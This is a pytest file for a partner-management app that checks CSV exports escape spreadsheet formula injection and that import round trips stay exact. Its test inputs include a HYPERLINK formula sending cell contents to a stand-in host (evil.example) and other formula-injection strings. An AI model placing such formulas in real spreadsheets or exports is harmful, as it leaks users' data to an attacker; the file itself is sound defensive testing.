"""Spreadsheet-safe CSV (formula injection): every CSV we write escapes formula cells, our importers read
the escaped form back, and export → import round trips stay exact."""

from __future__ import annotations

import csv
import io

import pytest

from openprm.core.csvsafe import FORMULA_PREFIXES, escape_cell, unescape_cell
from openprm.core.scoping import unscoped
from openprm.integrations.formats.csvread import CsvSource
from openprm.integrations.formats.csvwrite import csv_lines
from openprm.integrations.tests.helpers import HEADER, csv_file, run
from openprm.partners.models import CustomFieldDefinition, Partner
from openprm.testing import make_partner

# Every dangerous prefix, in text a person or an attacker may type, and the quote-escaped forms themselves.
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=1+2",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "''@x",
]
NUMBERS = ["-12.50", "+3", "-0.5", "12", "-1e3"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_cells_are_quoted_and_read_back(value):
    escaped = escape_cell(value)
    assert escaped == "'" + value
    assert unescape_cell(escaped) == value


@pytest.mark.parametrize("value", [*NUMBERS, "", "plain", "O'Brien", "'quoted", "a=b", "x-y"])
def test_numbers_and_harmless_text_are_written_as_they_are(value):
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


def test_every_prefix_is_covered():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    for prefix in FORMULA_PREFIXES:
        assert escape_cell(prefix + "x").startswith("'")


def test_written_csv_reads_back_exactly_through_the_import_reader():
    """csv_lines (every export) → CsvSource (every import): the same cells, whatever their prefix."""
    rows = [["a", "b"], *[[value, f"x{value}"] for value in [*DANGEROUS, *NUMBERS, "O'Brien"]]]
    text = "".join(csv_lines(iter(rows)))
    written = list(csv.reader(io.StringIO(text, newline="")))
    assert all(row[0].startswith("'") for row in written[1 : len(DANGEROUS) + 1])  # what a spreadsheet gets
    assert [row[0] for row in written[len(DANGEROUS) + 1 :]] == [*NUMBERS, "O'Brien"]

    source = CsvSource(io.BytesIO(text.encode()))
    try:
        assert source.read_header() == ["a", "b"]
        assert [record.values for record in source.records()] == rows[1:]
    finally:
        source.close()


@pytest.mark.django_db
def test_partner_export_escapes_formulas_and_the_import_round_trip_is_exact(world, tmp_path, client_for):
    with unscoped():
        CustomFieldDefinition.objects.create(workspace=world.workspace, key="note", label="Note")
        CustomFieldDefinition.objects.create(
            workspace=world.workspace, key="revenue", label="Revenue", field_type="number"
        )
    for number, value in enumerate([v for v in DANGEROUS if not v[0].isspace()]):
        make_partner(
            world.system,
            value,
            external_id=f"=X-{number}",
            region=value,
            tags=[value],
            custom_fields={"note": value, "revenue": "-12.50"},
        )
    target = tmp_path / "partners.csv"
    run("export", "partners", "--output", str(target))
    with target.open(newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    for row in rows[1:]:
        cells = dict(zip(header, row, strict=True))
        if cells["external_id"].startswith("'=X-"):  # ours: every text cell quoted, the number as it is
            assert cells["name"][0] == cells["region"][0] == cells["tags"][0] == cells["note"][0] == "'"
            assert cells["revenue"] == "-12.50"
        else:
            assert not any(cell.startswith("'") for cell in row)
    page = client_for(world.admin).get("/import/partners/export.csv")  # the list page's export
    assert b"".join(page.streaming_content) == target.read_bytes()
    with unscoped():
        before = list(Partner.objects.order_by("pk").values())

    out, _ = run("import", "partners", str(target))

    assert out.strip() == "created 0, updated 0, unchanged 9, rejected 0"
    with unscoped():
        assert list(Partner.objects.order_by("pk").values()) == before
        assert Partner.objects.get(external_id="=X-0").name == DANGEROUS[0]


@pytest.mark.django_db
def test_rejects_file_is_spreadsheet_safe(world, tmp_path):
    path = csv_file(tmp_path, "=1+2,@evil,no-such-type,,,,,,,,", header=HEADER)
    run("import", "partners", str(path), "--skip-invalid")
    rows = list(csv.reader((tmp_path / "partners.rejects.csv").open(newline="")))
    assert rows[1][:3] == ["'=1+2", "'@evil", "no-such-type"]
